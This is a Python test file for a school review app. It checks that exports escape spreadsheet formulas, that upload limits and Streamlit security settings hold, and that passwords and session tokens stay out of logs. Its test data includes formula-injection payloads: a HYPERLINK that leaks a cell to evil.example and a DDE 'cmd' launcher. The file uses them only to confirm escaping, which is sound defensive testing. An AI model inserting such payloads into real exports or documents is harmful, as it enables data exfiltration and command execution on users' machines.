"""Security settings that must not quietly regress: formula-safe exports, upload limits, the Streamlit
configuration, and passwords and session tokens kept out of every log."""

from __future__ import annotations

import csv
import io
import logging
import re
import tomllib
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import streamlit as st
import streamlit.config
from streamlit.testing.v1 import AppTest

from data import sessions, users
from data.access import OPERATOR
from data.db import Database
from data.schools import upsert_schools
from data.setup import open_database
from data.tables import audit_log
from exports.comparison_workbook import comparison_workbook
from exports.framework_workbook import write_framework_workbook
from exports.response_workbook import write_response_template
from exports.results_workbook import results_workbook
from framework import xlsx_safety
from framework.library import framework_from_dict
from framework.models import ReviewContext
from framework.problems import InvalidInput
from scoring import criterion_contributions, score_review
from tests.support import REPO_ROOT
from tests.support.pages import register

CONFIG = REPO_ROOT / ".streamlit" / "config.toml"
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what Excel, LibreOffice and Sheets run as a formula
NUMBER = re.compile(r"-?\d+(\.\d+)?")  # a negative number in a CSV is read as a number, not a formula
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]
HOSTILE_FRAMEWORK = framework_from_dict(
    {
        "id": "hostile",
        "title": HOSTILE[0],
        "version": "1",
        "description": HOSTILE[1],
        "scale": "q",
        "scales": [
            {
                "id": "q",
                "levels": [
                    {"points": 1, "label": "Low", "descriptor": HOSTILE[2]},
                    {"points": 2, "label": "High", "descriptor": HOSTILE[3]},
                ],
            }
        ],
        "domains": [
            {
                "id": "d",
                "title": HOSTILE[3],
                "description": HOSTILE[0],
                "criteria": [
                    {"id": "r", "text": HOSTILE[0], "kind": "rating", "guidance": HOSTILE[1], "evidence": HOSTILE[2]},
                    {"id": "y", "text": HOSTILE[4], "kind": "yes_no", "statutory": True},
                    {"id": "t", "text": HOSTILE[1], "kind": "text"},
                ],
            }
        ],
    }
)
ANSWERS = pd.DataFrame(
    {"criterion_id": ["r", "y", "t"], "response": ["High", "no", HOSTILE[0]], "evidence": HOSTILE[2:5]}
)


# --- every spreadsheet written neutralises formulas --------------------------------------------------


def results() -> bytes:
    context = ReviewContext.of("primary")
    score = score_review(HOSTILE_FRAMEWORK, ANSWERS, context, school_urn="900001")
    contributions = criterion_contributions(HOSTILE_FRAMEWORK, ANSWERS, context)
    about = {"School": HOSTILE[1], "URN": "900001", "Review by": HOSTILE[3]}
    return results_workbook(HOSTILE_FRAMEWORK, score, contributions, ANSWERS, about)


def response_template() -> bytes:
    answers = {r.criterion_id: (r.response, r.evidence) for r in ANSWERS.itertuples()}
    meta = {"school_urn": "900001", "school_name": HOSTILE[2], "reviewer_name": HOSTILE[3]}
    return write_response_template(HOSTILE_FRAMEWORK, phase="primary", meta=meta, answers=answers)


def framework_workbook() -> bytes:
    return write_framework_workbook(HOSTILE_FRAMEWORK)


def comparison() -> bytes:
    """The shape of data.comparison's ``Comparison.to_json()``, with hostile text wherever people's words go."""
    h = HOSTILE
    shown = {"domain_id": "d", "title": h[0], "percent": 50.0, "band": h[1], "peer_count": 6, "sentence": h[2]}
    shown |= {"peer_median": 40.0, "peer_low": 0.0, "peer_high": 100.0, "percentile": 50.0, "quartile": 2}
    shown |= {"peer_percents": [0.0, 40.0, 100.0]}
    hidden = {"domain_id": "e", "title": h[3], "percent": None, "peer_count": 3, "sentence": h[4], "reason": h[0]}
    senco = {
        "measures": [{"measure": "hours", "title": h[1], "value": 2.5, "peer_count": 6, "sentence": h[2]}],
        "survey_label": h[3],
        "note": h[4],
        "survey_figures": [{"year": 2024, "finding": h[0], "source": h[1]}],
    }
    about = {"urn": "900001", "school": h[0], "la": h[1], "phase": h[2], "framework": h[3], "cycle": "2025/26"}
    return comparison_workbook(
        about
        | {"own_review": "submitted", "peer_set": h[4], "overall": shown, "domains": [shown, hidden], "note": h[0]}
        | {"peer_list": [{"label": h[1], "urn": h[2], "has_result": True}], "senco_time": senco}
        | {"trend": [{"cycle": h[3], "title": h[4], "percent": 50.0, "peer_median": None, "peer_count": 5}]}
    )


def action_plan() -> bytes:
    """The action-plan workbook, with hostile text wherever people type."""
    from datetime import date
    from types import SimpleNamespace

    from exports.action_plan_workbook import action_plan_workbook

    h = HOSTILE
    note = SimpleNamespace(noted_on=date(2026, 1, 5), by=h[3], text=h[4])
    action = SimpleNamespace(
        what=h[0],
        cycle="2025/26",
        domain_id="d",
        criteria=("c1",),
        lead=h[1],
        due_on=date(2026, 1, 1),
        success=h[2],
        status="at_risk",
        notes=(note,),
    )
    return action_plan_workbook([action], {"d": h[3]}, h[4], date(2026, 2, 1))


AUDIT_ROWS = [[HOSTILE[0], "admin@la.example", HOSTILE[1], -3, HOSTILE[4]], [HOSTILE[3], HOSTILE[2], "", None, 1.5]]


def audit_csv() -> bytes:
    """The audit-log CSV, as the page and the CLI both write it (exports.cells.csv_bytes)."""
    from exports.cells import csv_bytes

    return csv_bytes(["When", "Who", "Action", "Review", "Detail"], AUDIT_ROWS)


WORKBOOKS = {
    "results workbook": results,
    "response template": response_template,
    "framework workbook": framework_workbook,
    "comparison workbook": comparison,
    "action plan workbook": action_plan,
}
CSVS = {"audit log CSV": audit_csv}


def written(name: str) -> list[tuple[str, object, bool]]:
    """(place, value, is a live formula) for every cell the named export writes."""
    if name in CSVS:
        text = CSVS[name]().decode("utf-8-sig")
        return [
            (f"line {n}, field {i}", value, False)
            for n, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1)
            for i, value in enumerate(row, start=1)
        ]
    book = openpyxl.load_workbook(io.BytesIO(WORKBOOKS[name]()))
    return [
        (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type == "f")
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


@pytest.mark.parametrize("name", [*WORKBOOKS, *CSVS])
def test_no_exported_cell_starts_like_a_formula(name: str) -> None:
    cells = written(name)
    live = [f"{place}: {value!r}" for place, value, formula in cells if formula]
    unescaped = [
        f"{place}: {value!r}"
        for place, value, _ in cells
        if str(value or "").startswith(DANGEROUS_STARTS) and not NUMBER.fullmatch(str(value))
    ]
    assert live == [] and unescaped == []
    escaped = {value for _, value, _ in cells if isinstance(value, str) and value.startswith("'")}
    assert escaped & {"'" + text for text in HOSTILE}, "the hostile text should be in the export, escaped"


def test_every_spreadsheet_and_csv_writer_is_checked_here() -> None:
    """A new module that writes workbooks or CSV must be added to WORKBOOKS or CSVS above."""
    writers = {
        f"{folder}/{path.name}"
        for folder in ("exports", "data", "ui", "scoring", "commands", "framework")
        for path in (REPO_ROOT / folder).glob("*.py")
        if re.search(r"\bWorkbook\(\)|csv\.writer|csv\.DictWriter|\.to_csv\(|\.to_excel\(", path.read_text())
    }
    assert writers == {
        "exports/cells.py",  # csv_bytes and the cell writer every other workbook uses
        "exports/comparison_workbook.py",
        "exports/framework_workbook.py",
        "exports/response_workbook.py",
        "exports/results_workbook.py",
        "exports/action_plan_workbook.py",
        "exports/overview_workbook.py",  # built from a database: its hostile cells are checked in test_overview.py
    }


# --- uploads are limited before anything parses them ---------------------------------------------------


def streamlit_settings() -> dict:
    return tomllib.loads(CONFIG.read_text(encoding="utf-8"))


def test_the_upload_limit_is_the_same_in_streamlit_and_in_the_workbook_checks() -> None:
    limit_mb = streamlit_settings()["server"]["maxUploadSize"]
    assert 1 <= limit_mb <= 10
    assert limit_mb * xlsx_safety.MB == xlsx_safety.MAX_BYTES


def test_an_oversized_upload_is_refused_before_it_is_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    def must_not_parse(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("the workbook was parsed")

    monkeypatch.setattr(xlsx_safety, "ExcelReader", must_not_parse)
    monkeypatch.setattr(xlsx_safety.zipfile, "ZipFile", must_not_parse)
    with pytest.raises(InvalidInput) as refused:
        xlsx_safety.read_sheets(b"PK\x03\x04" + b"\0" * xlsx_safety.MAX_BYTES, "big.xlsx")
    assert [str(p) for p in refused.value.problems] == [
        f"big.xlsx: the file is larger than {xlsx_safety.MAX_BYTES // xlsx_safety.MB} MB; "
        "a framework or review workbook is far smaller"
    ]


# --- the Streamlit configuration -----------------------------------------------------------------------


def test_streamlit_keeps_xsrf_cors_allowed_hosts_and_hides_errors() -> None:
    settings = streamlit_settings()
    assert settings["server"]["enableXsrfProtection"] is True
    assert settings["server"]["enableCORS"] is True
    hosts = settings["server"]["allowedHosts"]
    assert hosts and "*" not in hosts, "name the hosts the app is served on; '*' accepts any Host header"
    assert settings["client"]["showErrorDetails"] == "none"
    assert "corsAllowedOrigins" not in settings["server"]


def test_every_setting_in_config_toml_is_one_streamlit_knows() -> None:
    """A misspelt key (allowedHost, enableCors) is ignored by Streamlit: the protection would silently be off."""
    known = set(streamlit.config._config_options_template)
    written = {f"{section}.{key}" for section, values in streamlit_settings().items() for key in values}
    assert written - known == set()


def test_no_secret_is_committed_in_config_toml() -> None:
    """The cookie secret is per deployment (STREAMLIT_SERVER_COOKIE_SECRET or the server's own config)."""
    assert "cookieSecret" not in streamlit_settings().get("server", {})


# --- no password or session token in any log -----------------------------------------------------------


class Everything(logging.Handler):
    """Collects every record, formatted with its arguments, from every logger."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(f"{record.name} {self.format(record)}")


@pytest.fixture
def every_log() -> Iterator[Everything]:
    """DEBUG on every logger, including Streamlit's (which do not propagate) and SQLAlchemy's SQL and parameters."""
    handler = Everything()
    loggers = [logging.getLogger()] + [
        logger for logger in logging.Logger.manager.loggerDict.values() if isinstance(logger, logging.Logger)
    ]
    saved = [(logger, logger.level) for logger in loggers]
    for logger in loggers:
        logger.setLevel(logging.DEBUG)
        if logger is logging.getLogger() or not logger.propagate:
            logger.addHandler(handler)
    try:
        yield handler
    finally:
        for logger, level in saved:
            logger.setLevel(level)
            if handler in logger.handlers:
                logger.removeHandler(handler)


def secrets_in(text: str, secrets: list[str]) -> list[str]:
    return [secret for secret in secrets if secret in text]


def test_passwords_and_session_tokens_never_reach_the_logs(
    database_url: str, every_log: Everything, capfd: pytest.CaptureFixture[str]
) -> None:
    first, own, wrong = "first admin passphrase 9a7", "my own passphrase 4c1", "wrong passphrase 2b8"
    db = open_database(database_url)  # after DEBUG is on, so SQLAlchemy logs every statement and parameter
    upsert_schools(db, OPERATOR, _one_school())
    admin = users.create_first_admin(db, "admin@la.example", "Ada Admin", first)
    temporary = users.invite_user(db, admin, "senco@alder.example", "Sam Senco", "school", school_urn="900001")
    senco = users.authenticate(db, "senco@alder.example", temporary)
    users.set_password(db, senco, senco.id, own)
    for attempt in (wrong, first, temporary):
        with pytest.raises(users.SignInFailed):
            users.authenticate(db, "senco@alder.example", attempt)
    with pytest.raises(users.SignInFailed):
        users.authenticate(db, "nobody@alder.example", wrong)
    users.authenticate(db, "senco@alder.example", own)
    token = sessions.start_session(db, senco)
    assert sessions.session_actor(db, token) == senco
    sessions.end_session(db, token)
    reset = users.reset_password(db, admin, senco.id)

    secrets = [first, own, wrong, temporary, token, reset]
    logged = "\n".join(every_log.lines)
    assert "INSERT INTO users" in logged, "SQL logging should have been captured, or this test proves nothing"
    assert secrets_in(logged, secrets) == []
    out, err = capfd.readouterr()
    assert secrets_in(out + err, secrets) == []
    with db.read() as conn:
        stored = "\n".join(str(tuple(row)) for row in conn.execute(audit_log.select()))
    assert secrets_in(stored, secrets) == []
    db.dispose()


def test_signing_in_through_the_app_logs_no_password(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, every_log: Everything, capfd: pytest.CaptureFixture[str]
) -> None:
    url = f"sqlite:///{tmp_path}/app.db"
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.setenv("SEND_REVIEW_DEMO", "0")
    st.cache_resource.clear()
    right, wrong = "the right passphrase 5e3", "a wrong passphrase 6f2"
    users.create_first_admin(open_database(url), "admin@la.example", "Ada Admin", right)
    app = AppTest.from_file(str(REPO_ROOT / "app.py"), default_timeout=60).run()
    for password in (wrong, right):
        app.text_input[0].input("admin@la.example")
        app.text_input[1].input(password)
        app = app.button[0].click().run()
    st.cache_resource.clear()

    assert not app.exception
    logged = "\n".join(every_log.lines)
    out, err = capfd.readouterr()
    assert secrets_in(logged + out + err, [right, wrong]) == []


def _one_school() -> pd.DataFrame:
    return register([("900001", "Alder Primary", "North", "primary")])


def test_a_database_handle_never_shows_its_password() -> None:
    """Operators paste errors into tickets: the URL's password must not be in what SQLAlchemy prints."""
    db = Database("postgresql+psycopg://send:s3cret-db-pass@db.example/send")
    assert "s3cret-db-pass" not in repr(db.engine) and "s3cret-db-pass" not in str(db.engine.url)
